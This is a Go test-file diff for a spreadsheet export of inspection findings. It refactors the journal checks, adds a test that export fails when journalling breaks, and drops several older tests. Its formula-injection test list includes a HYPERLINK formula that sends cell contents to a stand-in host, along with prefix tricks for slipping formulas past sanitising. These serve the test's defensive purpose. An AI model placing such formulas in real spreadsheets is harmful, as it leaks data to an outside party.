@@ -50,7 +50,7 @@ func newHouse(t *testing.T) *house {
 
 // put writes a problem with its measures past the services. A problem that is not
 // issued is a draft.
-func (h *house) put(unit inspection.UnitID, seq int, text string, amount int64, issued bool, measures ...string) {
+func (h *house) put(unit inspection.UnitID, seq int, text string, amount int64, issued bool, measures ...string) inspection.FindingID {
 	id := inspection.NewID[inspection.FindingID]()
 	at := "now()"
 	if !issued {
@@ -65,6 +65,7 @@ func (h *house) put(unit inspection.UnitID, seq int, text string, amount int64, 
 		h.Root(`insert into measures (tenant_id, id, finding_id, unit_id, seq, text, leader, department, due_on, issued_at)
 			values ($1, gen_random_uuid(), $2, $3, $4, $5, '责任领导甲', '规划科', '2026-09-30', `+at+`)`, h.office.ID, id, unit, i+1, m)
 	}
+	return id
 }
 
 func (h *house) export(t *testing.T, scope tenants.Scope, f rectification.Filter, w documents.Wish) workbook {
@@ -176,7 +177,7 @@ func TestFormulas(t *testing.T) {
 	t.Parallel()
 	h := newHouse(t)
 	evil := []string{
-		`=HYPERLINK("http://x.invalid?"&A1,"点")`, "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", " =1+1", "\u200b=1+1", "＝1+1", "普通问题",
+		`=HYPERLINK("http://x.invalid?"&A1,"点")`, "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", " =1+1", "\u200b=1+1", "＝1+1", "|1+1", "%1+1", "普通问题",
 	}
 	for i, text := range evil {
 		h.put(h.water, i+1, text, 0, true, text)
@@ -323,6 +324,35 @@ func TestRights(t *testing.T) {
 	}
 }
 
+// said is what an office's journal says of exports, and whether of this file.
+func (h *house) said(office tenants.Tenant, w workbook) (all []string) {
+	w.t.Helper()
+	props, err := w.GetDocProps()
+	if err != nil {
+		w.t.Fatal(err)
+	}
+	h.Do(h.Jobs, tenants.ForJob(office, "test"), func(tx *tenants.Tx) error {
+		rows, err := tx.Query(w.t.Context(), `select object_id::text, action, coalesce(detail ->> 'text', '') from journal
+			where tenant_id = current_tenant() and object = 'export' order by seq`)
+		if err != nil {
+			return err
+		}
+		defer rows.Close()
+		for rows.Next() {
+			var id, action, text string
+			if err := rows.Scan(&id, &action, &text); err != nil {
+				return err
+			}
+			if id == props.Identifier {
+				action += " of the file"
+			}
+			all = append(all, action+": "+text)
+		}
+		return rows.Err()
+	})
+	return all
+}
+
 // TestJournal finds one entry for each export, and one in the office whose rows
 // were taken out from above.
 func TestJournal(t *testing.T) {
@@ -336,106 +366,25 @@ func TestJournal(t *testing.T) {
 	wish := documents.Wish{Columns: []string{"number", "measure"}, Asked: "state=working"}
 	w := h.export(t, h.off, rectification.Filter{}, wish)
 	h.export(t, below, rectification.Filter{}, wish)
-	props, err := w.GetDocProps()
-	if err != nil {
-		t.Fatal(err)
-	}
-	said := func(office tenants.Tenant) (all []string) {
-		h.Do(h.Jobs, tenants.ForJob(office, "test"), func(tx *tenants.Tx) error {
-			var id, action, text string
-			rows, err := tx.Query(t.Context(), `select object_id::text, action, coalesce(detail ->> 'text', '') from journal
-				where tenant_id = current_tenant() and object = 'export' order by seq`)
-			if err != nil {
-				return err
-			}
-			defer rows.Close()
-			for rows.Next() {
-				if err := rows.Scan(&id, &action, &text); err != nil {
-					return err
-				}
-				if id == props.Identifier {
-					action += " of the file"
-				}
-				all = append(all, action+": "+text)
-			}
-			return rows.Err()
-		})
-		return all
-	}
 	text := "1 个问题，共 2 行；列：编号、整改措施；筛选：state=working"
 	want := []string{"ledger.export of the file: " + text, "ledger.export-above: " + h.City[0].Short}
-	if diff := cmp.Diff(want, said(h.office)); diff != "" {
+	if diff := cmp.Diff(want, h.said(h.office, w)); diff != "" {
 		t.Errorf("the county's journal (-want +got):\n%s", diff)
 	}
-	if diff := cmp.Diff([]string{"ledger.export: " + text}, said(h.City[0])); diff != "" {
+	if diff := cmp.Diff([]string{"ledger.export: " + text}, h.said(h.City[0], w)); diff != "" {
 		t.Errorf("the city's journal (-want +got):\n%s", diff)
 	}
 }
 
-// TestTooMany refuses what is too long, by problems and by lines, and writes
-// nothing down.
-func TestTooMany(t *testing.T) {
+// TestNoEntry breaks the journal: no file leaves that it does not say.
+func TestNoEntry(t *testing.T) {
 	t.Parallel()
 	h := newHouse(t)
-	for i := range 3 {
-		h.put(h.water, i+1, fmt.Sprintf("问题%d", i+1), 0, true, "措施甲", "措施乙")
-	}
-	wish := documents.Wish{Columns: []string{"number", "measure"}}
-	for most, want := range map[int]string{2: "narrow-filter", 5: "narrow-filter", 6: ""} {
-		h.documents.Most = most
-		_, err := h.documents.Ledger(t.Context(), h.off, rectification.Filter{}, wish)
-		if inspection.CodeOf(err) != want {
-			t.Errorf("at most %d: %v, want %q", most, err, want)
-		}
-	}
-	read := 0
-	h.Do(h.DB, h.off, func(tx *tenants.Tx) error {
-		_, err := h.documents.Cases.Every(t.Context(), tx, rectification.Filter{}, 2, func(rectification.Item) error { read++; return nil })
-		if inspection.CodeOf(err) != "narrow-filter" || read > 0 {
-			t.Errorf("%d rows read before it was refused: %v", read, err)
-		}
-		return nil
-	})
-	h.Do(h.Jobs, tenants.ForJob(h.office, "test"), func(tx *tenants.Tx) error {
-		var n int
-		err := tx.QueryRow(t.Context(), `select count(*) from journal where tenant_id = current_tenant() and object = 'export'`).Scan(&n)
-		if n != 1 {
-			t.Errorf("%d entries, want 1: of the export that came about", n)
-		}
-		return err
-	})
-}
-
-// TestEvery reads more than one chunk, each row once, in order.
-func TestEvery(t *testing.T) {
-	t.Parallel()
-	h := newHouse(t)
-	h.Root(`with f as (
-			insert into findings (tenant_id, id, number, round_id, unit_id, seq, focus, category, text, issued_at)
-			select $1, gen_random_uuid(), 'N' || to_char(n, 'FM00000'), $2, $3, n, 1, '', '问题', now() from generate_series(1, 1203) n
-			returning id, unit_id)
-		insert into rectifications (tenant_id, finding_id, unit_id, state, issued_at, changed_at, changed_by)
-		select $1, id, unit_id, 'open', now(), now(), '某人' from f`, h.office.ID, h.round, h.water)
-	w := h.export(t, h.off, rectification.Filter{}, documents.Wish{Columns: []string{"number"}})
-	got := w.column("编号")
-	if len(got) != 1203 || !slices.IsSorted(got) || len(slices.Compact(got)) != 1203 {
-		t.Errorf("%d rows", len(got))
-	}
-}
-
-// TestMatters takes another list out: the same mechanism with its own table.
-func TestMatters(t *testing.T) {
-	t.Parallel()
-	h := newHouse(t)
-	file, err := h.documents.Matters(t.Context(), h.off, linkage.Outbox, documents.Wish{Form: documents.All})
-	if err != nil {
-		t.Fatal(err)
-	}
-	if w := open(t, file); w.sheet != "上报事项" || len(w.rows()) != 0 {
-		t.Errorf("sheet %s, rows %v", w.sheet, w.rows())
-	}
-	_, err = h.documents.Matters(t.Context(), h.off, linkage.Outbox, documents.Wish{Form: documents.Report})
-	if inspection.CodeOf(err) != "export.form" {
-		t.Errorf("err = %v", err)
+	h.put(h.water, 1, "问题一", 0, true)
+	h.export(t, h.off, rectification.Filter{}, documents.Wish{Form: documents.All})
+	h.Root(`alter function sec.journal_append rename to journal_append_gone`)
+	file, err := h.documents.Ledger(t.Context(), h.off, rectification.Filter{}, documents.Wish{Form: documents.All})
+	if err == nil || file.Content != nil {
+		t.Errorf("%d bytes, %v", len(file.Content), err)
 	}
 }
